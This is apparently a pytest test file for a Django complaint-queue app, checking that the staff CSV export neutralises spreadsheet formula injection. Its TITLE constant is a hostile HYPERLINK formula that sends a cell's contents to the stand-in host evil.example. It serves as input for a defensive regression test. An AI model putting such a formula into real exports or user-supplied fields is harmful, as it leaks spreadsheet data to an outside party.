"""Issue 12 finding 5: the staff CSV export of the complaint queue never hands a spreadsheet a formula."""

import csv
import io

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
NAME = "@SUM(1+1)"


def test_queue_export_neutralises_formulas(client, submit, users):
    submit(title=TITLE, reporter_name=NAME)
    client.force_login(users["regency_admin"])
    response = client.get(reverse("aduan:export", args=["all"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    row = next(r for r in rows[1:] if "HYPERLINK" in r[3])
    assert row[3] == "'" + TITLE
    assert row[10] == "'" + NAME
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)
